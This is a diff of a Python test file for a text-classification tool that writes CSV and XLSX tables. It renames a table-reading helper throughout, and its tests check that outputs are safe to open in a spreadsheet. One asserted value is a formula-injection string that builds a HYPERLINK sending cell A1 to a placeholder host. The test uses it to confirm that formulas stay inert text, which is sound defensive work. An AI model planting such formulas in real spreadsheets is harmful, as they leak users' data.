@@ -244,7 +244,7 @@ def test_c10_c11_control_characters_and_formulas(shared: Path, model_dir: Path, 
     run = run_predict(model_dir, [shared / "c00-kontroll.txt", *cases], out, "--format", fmt)
     assert run.returncode == 0, run.stderr
     assert_spreadsheet_safe(out, fmt)
-    frame = outputs.read_table(out / f"sentences.{fmt}", fmt)
+    frame = outputs.read_output_table(out / f"sentences.{fmt}", fmt)
     assert "Kommunen vil bruke samskaping i nærmiljøarbeidet." in frame["text"].tolist()  # \v became a space
     assert '=HYPERLINK("http://example.invalid/?q="&A1;"Klikk her")' in frame["text"].tolist()  # text kept as text
     assert frame.loc[frame["document"] == str(shared / "c00-kontroll.txt"), "text"].tolist() == CONTROL_TEXT
@@ -261,7 +261,7 @@ def test_c12_resume_equals_an_uninterrupted_run(shared: Path, model_dir: Path, t
     assert run_predict(model_dir, [a, b], whole, "--format", fmt).returncode == 0
     for name in ("sentences", "documents"):
         assert table_cells(resumed / f"{name}.{fmt}", fmt) == table_cells(whole / f"{name}.{fmt}", fmt), name
-    frame = outputs.read_table(resumed / f"sentences.{fmt}", fmt)
+    frame = outputs.read_output_table(resumed / f"sentences.{fmt}", fmt)
     assert frame["kommunenummer"].astype(str).tolist() == ["0301", "0301", "1804", "1804"]
     assert frame["id"].astype(str).tolist() == ["0042", "0043", "0007", "0008"]
 
@@ -354,7 +354,7 @@ def test_own_inputs_of_every_kind_in_one_run(model_dir: Path, control: Path, tmp
         },
     )
     assert "broken-page.pdf: page 2 could not be read" in run.stderr
-    frame = outputs.read_table(out / f"sentences.{fmt}", fmt)
+    frame = outputs.read_output_table(out / f"sentences.{fmt}", fmt)
     by_doc = frame.groupby("document")["text"].apply(list).to_dict()
     assert by_doc[str(control)] == CONTROL_TEXT
     assert by_doc[str(files["broken-page.pdf"])] == [
@@ -1008,7 +1008,7 @@ def test_outputs_never_hold_a_formula(tmp_path: Path) -> None:
     for fmt in ("csv", "xlsx"):
         path = tmp_path / f"t.{fmt}"
         outputs.write_table(frame, path, fmt)
-        back = outputs.read_table(path, fmt)
+        back = outputs.read_output_table(path, fmt)
         assert back["text"].tolist() == cells  # read back as written
         assert list(back.columns) == ["text", "=kolonne", "n"] and back["n"].astype(int).tolist() == list(
             range(len(cells))
@@ -1030,7 +1030,7 @@ def test_xlsx_drops_control_characters_and_cuts_long_cells_naming_the_row(
     )
     with caplog.at_level(logging.WARNING):
         outputs.write_table(frame, tmp_path / "t.xlsx", "xlsx")
-    back = outputs.read_table(tmp_path / "t.xlsx", "xlsx")
+    back = outputs.read_output_table(tmp_path / "t.xlsx", "xlsx")
     assert back["text"].tolist()[0] == "Tekst med kontrolltegn."
     assert len(back["text"].tolist()[1]) == outputs.EXCEL_MAX_CELL
     assert "t.xlsx, row 3 (b.txt), column 'text': 40000 characters, cut" in caplog.text
@@ -1065,7 +1065,7 @@ def test_resume_is_exact_in_every_format(model, tmp_path: Path, fmt: str) -> Non
     classify(inputs, model, resumed, fmt=fmt, progress=False, model_info=info, resume=True)
     for name in ("sentences", "documents"):
         assert table_cells(resumed / f"{name}.{fmt}", fmt) == table_cells(whole / f"{name}.{fmt}", fmt), name
-    frame = outputs.read_table(resumed / f"sentences.{fmt}", fmt)
+    frame = outputs.read_output_table(resumed / f"sentences.{fmt}", fmt)
     assert frame["kommunenummer"].astype(str).tolist()[:2] == ["0301", "0301"]
     assert frame["id"].astype(str).tolist()[:2] == ["0042", "0043"]
 
